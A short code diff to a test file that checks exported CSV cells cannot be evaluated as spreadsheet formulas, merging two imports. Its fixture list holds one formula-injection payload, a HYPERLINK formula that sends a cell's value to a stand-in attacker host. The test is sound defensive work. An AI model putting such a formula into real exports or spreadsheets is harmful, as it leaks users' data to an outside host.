@@ -1,8 +1,7 @@
 // No cell of an exported CSV is computed by a spreadsheet.
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { decodeCsvRow } from "../../src/lib/csv.ts";
-import { encodeSpreadsheetRow } from "../../src/lib/spreadsheet-csv.ts";
+import { decodeCsvRow, encodeSpreadsheetRow } from "../../src/lib/csv.ts";
 
 const DEFUSED: ReadonlyArray<readonly [string, string]> = [
   ["formula", '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
